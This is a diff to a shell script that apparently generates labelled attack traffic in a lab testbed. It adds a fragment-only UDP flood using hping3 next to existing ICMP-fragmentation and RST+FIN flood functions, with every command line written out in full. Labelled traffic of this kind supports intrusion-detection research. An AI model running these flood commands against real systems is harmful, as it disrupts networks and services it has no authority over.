@@ -68,6 +68,15 @@ attack_icmp_fragmentation() {
         hping3 -q -1 -d 1200 -m 300 -c 1200 -i u6666 "${IP[hub]}"
 }
 
+# Later fragments only (offset 1 480 bytes, more fragments to come): no
+# first fragment ever says what the datagrams are, and the receiver can
+# reassemble none of them (added after floods5-81).
+attack_fragment_only_flood() {
+    labelled fragment-only-flood dos "${IP[atk]}" "${IP[spk]}" "" hping3 \
+        "flood of later IP fragments only (hping3 --udp -g 1480 -x: offset 1 480, more fragments), 1 000-byte fragments, 1 000/s for 4 s" atk 120 -- \
+        hping3 -q --udp -g 1480 -x -p 9999 -d 1000 -c 4000 -i u1000 "${IP[spk]}"
+}
+
 attack_rstfin_flood() {
     labelled rstfin-flood dos "${IP[atk]}" "${IP[srv]}" 1883 hping3 \
         "RST+FIN flood (hping3 -R -F), 1 500/s for 4 s" atk 120 -- \
